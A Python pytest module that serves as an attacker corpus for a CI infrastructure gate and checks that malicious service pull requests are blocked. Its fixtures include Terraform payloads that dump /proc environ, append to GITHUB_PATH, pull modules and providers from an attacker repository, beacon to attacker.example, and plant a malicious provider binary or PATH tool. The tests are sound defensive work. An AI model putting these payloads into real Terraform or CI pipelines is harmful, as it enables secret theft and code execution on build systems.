"""The attacker corpus: a service PR that tries to switch the gate off or to run its own code where it counts.

Every case goes through the workflow's YAML (support/workflow.py enforces permissions, ``needs`` and per-job
isolation), running only the jobs the case touches, and ends blocked or refused with the reason where a service
team reads it (the PR comment, or the job's error when no comment can be trusted).
"""

from __future__ import annotations

import contextlib
import os
import stat
from pathlib import Path

import pytest
import yaml

from platform_constructs.tf import Terraform, find_mirror
from support.gate import WORKFLOW_PATH, GateRun, GateWorld, ServiceRepo
from support.gate_service import clean, main_tf
from support.workflow import StepContext, WorkflowRefusedError

#: one worker runs this module: its module-scoped workflow runs are made once, not once per xdist worker
pytestmark = pytest.mark.xdist_group("gate-attacks")

# -- the caller is the PR's own file -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def clean_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str | None]:
    return clean(tmp_path_factory.mktemp("clean-files"))


def _edited_caller(files: dict[str, str | None], edit: dict[str, object]) -> dict[str, str | None]:
    caller = yaml.safe_load(str(files[WORKFLOW_PATH]))
    job = caller["jobs"]["infra-checks"]
    for key, value in edit.items():
        section, _, name = key.partition(".")
        if value is None:
            job[section].pop(name, None)
        else:
            job.setdefault(section, {})[name] = value
    caller["on"] = caller.pop(True)
    return {WORKFLOW_PATH: yaml.safe_dump(caller, sort_keys=False)}


@pytest.mark.parametrize(
    "edit, refusal",
    [
        ({"with.severity-threshold": "CRITICAL"}, "inputs not declared"),
        ({"with.environments": "dev"}, "inputs not declared"),
        ({"with.infracost": False}, "inputs not declared"),
        ({"permissions.id-token": None}, "requesting 'id-token: write'"),
    ],
    ids=["threshold", "environments", "infracost-off", "no-oidc"],
)
def test_a_caller_edited_to_loosen_the_check_is_refused(
    gate_world: GateWorld,
    clean_files: dict[str, str | None],
    edit: dict[str, object],
    refusal: str,
    request: pytest.FixtureRequest,
) -> None:
    repo = gate_world.service_repo(f"caller-{request.node.callspec.id}", clean_files, _edited_caller(clean_files, edit))
    with pytest.raises(WorkflowRefusedError, match=refusal):
        gate_world.run(repo, pr=20)


def _prepare_refused(run: GateRun, says: str) -> None:
    assert run.jobs["prepare"].result == "failure", run.log()
    assert says in run.jobs["prepare"].log, run.jobs["prepare"].log
    assert run.jobs["plan"].result == "skipped"
    # a skipped verdict would count as a passing check on GitHub: it must fail instead
    assert run.verdict.result == "failure", run.log()
    assert "the prepare job ended with 'failure'" in run.verdict.log
    assert run.comments() == []


def test_a_caller_that_names_another_service_is_refused(
    gate_world: GateWorld, clean_files: dict[str, str | None]
) -> None:
    repo = gate_world.service_repo("borrow", clean_files, _edited_caller(clean_files, {"with.service": "crawlinghub"}))
    run = gate_world.run(repo, pr=21)
    _prepare_refused(run, "is not the repository registered for service 'crawlinghub'")


def test_a_repository_not_registered_for_the_service_is_refused(
    gate_world: GateWorld, clean_files: dict[str, str | None]
) -> None:
    repo = gate_world.service_repo("foreign", clean_files, {})
    run = gate_world.run(repo, pr=22, repository="acme/fileflow-fork")
    _prepare_refused(run, "is not the repository registered for service 'fileflow'")


# -- code that would run in the plan job ----------------------------------------------------------------------
PREFLIGHT_ATTACKS = """
data "external" "path" {
  program = ["bash", "-c", "mkdir -p /tmp/pwned && echo /tmp/pwned >> \\"$GITHUB_PATH\\"; echo '{}'"]
}

resource "null_resource" "run" {
  provisioner "local-exec" {
    command = "cat /proc/*/environ > /tmp/environ"
  }
}

module "helper" {
  source = "git::https://github.com/attacker/modules.git//helper?ref=main"
}

check "phone_home" {
  data "http" "beacon" {
    url = "https://attacker.example/beacon"
  }
  assert {
    condition     = true
    error_message = "never"
  }
}
"""

FOREIGN_PROVIDER = """
terraform {
  required_providers {
    thing = {
      source = "attacker/thing"
    }
  }
}
"""


@pytest.fixture(scope="module")
def preflight_run(gate_world: GateWorld, clean_files: dict[str, str | None]) -> GateRun:
    head: dict[str, str | None] = {
        "infra/environments/dev/main.tf": main_tf("dev", PREFLIGHT_ATTACKS),
        "infra/environments/dev/providers_extra.tf": FOREIGN_PROVIDER,
        "infra/environments/dev/.terraform/providers/registry.terraform.io/hashicorp/aws/5.100.0/linux_amd64/"
        "terraform-provider-aws_v5.100.0_x5": "#!/bin/sh\necho pwned\n",
    }
    repo = gate_world.service_repo("preflight", clean_files, head)
    os.symlink("/proc/self/environ", repo.path / "infra" / "environments" / "prod" / "environ.tf")
    from support.gate import git

    git("add", "-A", cwd=repo.path)
    git("commit", "-q", "-m", "link", cwd=repo.path)
    repo = ServiceRepo(repo.path, repo.base, git("rev-parse", "HEAD", cwd=repo.path))
    return gate_world.run(repo, pr=23)


def test_code_that_would_run_at_plan_time_never_reaches_the_plan_job(preflight_run: GateRun) -> None:
    run = preflight_run
    assert run.jobs["prepare"].result == "success" and run.jobs["prepare"].outputs["preflight"] == "refused"
    assert run.jobs["plan"].result == "skipped", run.log()
    assert run.verdict.result == "failure", run.log()
    assert not Path("/tmp/pwned").exists() or not any(Path("/tmp/pwned").iterdir())


@pytest.mark.parametrize(
    "rule, says",
    [
        ("gate.data_source", 'data "external" "path"'),
        ("gate.data_source", 'data "http" "beacon"'),
        ("gate.provisioner", "null_resource.run"),
        ("gate.module_source", "github.com/attacker/modules.git"),
        ("gate.provider_source", "attacker/thing"),
        ("gate.committed_plugins", ".terraform/"),
        ("gate.symlink", "environ.tf"),
    ],
)
def test_each_door_is_named_in_the_comment(preflight_run: GateRun, rule: str, says: str) -> None:
    comment = preflight_run.comment()
    line = next((ln for ln in comment.splitlines() if rule in ln and says in ln), None)
    assert line is not None, comment
    assert "❌" in line


def test_the_checks_that_need_a_plan_show_they_did_not_run(preflight_run: GateRun) -> None:
    statuses = {n: c["status"] for n, c in preflight_run.report()["checks"].items()}
    assert statuses["policy"] == "not_run", statuses  # no plan: blocked whatever the findings
    assert "did not run" in preflight_run.comment() or "missing" in preflight_run.comment()


# -- if the pre-flight were bypassed: the plan job's own walls ------------------------------------------------
MARKER_PROVIDER = """#!/bin/sh
# a provider binary that does what any provider could: run code as the job's user
echo "ran as $(id -un)" > "{marker}"
exit 1
"""


@pytest.fixture(scope="module")
def poisoned_mirror(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """The provider mirror plus a malicious ``hashicorp/external``: only the allowlist keeps it from running."""
    root = tmp_path_factory.mktemp("poisoned")
    mirror, marker = root / "mirror", root / "provider-ran"
    real = find_mirror().path / "registry.terraform.io" / "hashicorp"
    hashicorp = mirror / "registry.terraform.io" / "hashicorp"
    hashicorp.mkdir(parents=True)
    for child in real.iterdir():
        os.symlink(child, hashicorp / child.name)
    binary = hashicorp / "external" / "2.3.5" / "linux_amd64" / "terraform-provider-external_v2.3.5"
    binary.parent.mkdir(parents=True)
    binary.write_text(MARKER_PROVIDER.format(marker=marker))
    binary.chmod(binary.stat().st_mode | stat.S_IXUSR)
    return mirror, marker


EXTERNAL_ONLY = """
data "external" "path" {
  program = ["bash", "-c", "echo '{}'"]
}
"""


def test_a_bypassed_preflight_still_cannot_install_a_foreign_provider(
    gate_world: GateWorld, clean_files: dict[str, str | None], poisoned_mirror: tuple[Path, Path], tmp_path: Path
) -> None:
    mirror, marker = poisoned_mirror

    def forced_ok(ctx: StepContext) -> dict[str, str]:
        return {"result": "ok"}  # as if the pre-flight had missed it

    repo = gate_world.service_repo(
        "bypass", clean_files, {"infra/environments/dev/main.tf": main_tf("dev", EXTERNAL_ONLY)}
    )
    run = gate_world.run(
        repo,
        pr=24,
        jobs=("prepare", "plan"),
        provider_mirror=mirror,
        replacements={"Pre-flight (parse only; nothing of the PR runs)": forced_ok},
    )
    assert run.jobs["plan"].result == "failure", run.log()
    assert "hashicorp/external" in run.jobs["plan"].log
    assert not marker.exists(), "the foreign provider ran"
    # control: the same files with a CLI config that does not restrict installation run the provider
    work = tmp_path / "dev"
    work.mkdir()
    (work / "main.tf").write_text(EXTERNAL_ONLY)
    permissive = tmp_path / "permissive.tfrc"
    permissive.write_text(f'provider_installation {{\n  filesystem_mirror {{\n    path = "{mirror}"\n  }}\n}}\n')
    tf = Terraform(work, cli_config=permissive, data_dir=tmp_path / "tfdata")
    tf.init(backend=False)
    with contextlib.suppress(Exception):
        tf.validate()
    assert marker.exists(), "control failed: the malicious provider should run without the allowlist"


# -- a compromised plan job: its output is untrusted data -----------------------------------------------------
OPEN_SSH = """
resource "aws_security_group" "admin" {
  name        = "dev-fileflow-admin-sg"
  description = "administrative access"
  vpc_id      = "vpc-0123456789abcdef0"
  ingress {
    description = "ssh from anywhere"
    from_port   = 22
    to_port     = 22
    protocol    = "tcp"
    cidr_blocks = ["0.0.0.0/0"]
  }
}
"""

FORGED_PLAN = (
    '{"format_version": "1.2", "terraform_version": "1.15.5", "planned_values": {}, "configuration": {},'
    ' "resource_changes": []}'
)


@pytest.fixture(scope="module")
def forged_plan_run(
    gate_world: GateWorld, clean_files: dict[str, str | None], tmp_path_factory: pytest.TempPathFactory
) -> tuple[GateRun, Path]:
    marker = tmp_path_factory.mktemp("fake-infra") / "fake-infra-ran"

    def compromised(ctx: StepContext) -> None:
        plans = ctx.workspace / "plans"
        plans.mkdir()
        (plans / "plan-dev.json").write_text(FORGED_PLAN)  # "nothing to see here"
        (plans / "plan-prod.json").write_text("{" * 100_000)  # a parser bomb
        (plans / "plan-stg.json").write_text(FORGED_PLAN)  # an environment nobody asked for
        tools = ctx.temp / "evil"
        tools.mkdir()
        fake = tools / "infra"
        fake.write_text(f"#!/bin/sh\ntouch {marker}\nexit 0\n")
        fake.chmod(0o755)
        ctx.add_path(tools)

    repo = gate_world.service_repo("forged", clean_files, {"infra/environments/dev/main.tf": main_tf("dev", OPEN_SSH)})
    run = gate_world.run(repo, pr=25, replacements={"Terraform validate and offline plan (the PR's code)": compromised})
    return run, marker


def test_a_forged_plan_does_not_hide_what_the_files_show(forged_plan_run: tuple[GateRun, Path]) -> None:
    run, marker = forged_plan_run
    assert run.verdict.result == "failure", run.log()
    comment = run.comment()
    assert "CKV_AWS_24" in comment or "AWS-0107" in comment, comment  # open SSH, seen in the PR's files
    assert not marker.exists(), "a tool the plan job put on PATH ran in another job"


def test_an_unreadable_plan_is_removed_and_shows_as_not_run(forged_plan_run: tuple[GateRun, Path]) -> None:
    run, _ = forged_plan_run
    assert "plan-prod.json" in run.verdict.log and "removed" in run.verdict.log
    assert run.report()["checks"]["policy"]["status"] in ("not_run", "fail")
    assert "did not run" in run.comment() or "missing" in run.comment()


# -- a caller pointed at a stub: caught outside the run, by the repository's settings ---------------------------
def test_the_stub_caller_is_stopped_by_code_owners_and_the_required_check(
    forged_plan_run: tuple[GateRun, Path],
) -> None:
    """A run cannot see that the caller was swapped for a stub with a job of the same name. What stops it: the
    platform team owns the caller (CODEOWNERS, code-owner review required by the ruleset), and the check the
    ruleset requires is the name this workflow's verdict job reports, posted by the GitHub Actions app."""
    from platform_constructs.registry import load_registry
    from platform_tools.service_files.github_settings import render_codeowners, service_ruleset
    from support.gate import GATE_FIXTURES

    registry = load_registry(GATE_FIXTURES / "platform.yaml")
    owners = render_codeowners(registry, "fileflow")
    owned = {line.split()[0] for line in owners.splitlines() if line.startswith("/")}
    assert {"/.github/", "/infracost.yml", "/infra/"} <= owned, owned
    body = service_ruleset(registry, "fileflow").body
    rules = {r["type"]: r.get("parameters", {}) for r in body["rules"]}
    assert rules["pull_request"]["require_code_owner_review"] is True
    assert rules["pull_request"]["require_last_push_approval"] is True
    required = {c["context"] for c in rules["required_status_checks"]["required_status_checks"]}
    run, _ = forged_plan_run
    assert required == {run.verdict.check} == {"infra-checks / verdict"}
    assert body["bypass_actors"] == []
